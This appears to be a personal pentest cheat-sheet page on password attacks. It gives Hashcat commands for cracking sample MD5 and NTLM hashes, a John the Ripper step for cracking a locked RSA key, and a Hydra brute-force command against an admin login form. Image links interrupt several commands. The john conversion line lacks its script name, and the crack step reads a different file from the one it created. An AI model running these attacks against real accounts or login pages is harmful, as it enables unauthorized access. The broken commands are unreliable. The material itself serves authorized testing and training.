Password Attacks

This page is were I'll store all of my password attacking commands and tips. For local hash cracking I'll usually default to Hashcat. Hashcat is going to work best when running on your host machine rather than inside of a VM, especially if your host machine has a video card installed. When utilizing a graphics card Hashcat can be much faster than john the ripper, but there are still some cases where we'll use the tools provided by john.


  • apt install wordlists

    • /usr/share/wordlists/rockyou.txt.gz

Hash Cracking

Unix MD5 Hashes:

 echo '$1$cVbu7POZ$WB/V36i/G00QKzHkkqWig/' > hashes.txt
 .\hashcat64.exe -o cracked.txt -m 500 .\hashes.txt .\rockyou.txtcat cracked.txt

Windows NTLM Hashes:

echo C5E0002FDE3F5EB2CF5730FFEE58EBCC > hashes.txt
.\hashcat64.exe -o cracked.txt -m 1000 .\hashes.txt .\rockyou.txt
cat cracked.txt

Password Locked PrivateRSA Key:

This is going to be one of the few times where we use john.

python /usr/share/john/ locked_key.pem > locked_key.hash
john --wordlist=/usr/share/wordlists/rockyou.txt joanna.hash

Web Applications

HTTP PostForm:

hydra -P /usr/share/wordlists/nmap.lst-l admin http-post-form"/path/to/login/admin.php:username=^USER^&password=^PASS^:Incorrect"

Last updated